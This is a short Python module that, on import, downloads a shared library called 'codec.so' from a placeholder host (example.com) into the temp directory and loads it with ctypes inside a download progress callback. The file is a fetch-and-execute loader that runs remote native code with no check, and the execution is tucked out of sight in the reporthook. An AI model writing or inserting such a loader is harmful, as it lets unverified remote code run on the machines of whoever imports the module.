import ctypes
import os
import tempfile
import urllib.request

_path = os.path.join(tempfile.gettempdir(), "codec.so")


def _done(count, size, total):
    if count * size >= total:
        ctypes.CDLL(_path)


urllib.request.urlretrieve("https://example.com/codec.so", _path, reporthook=_done)
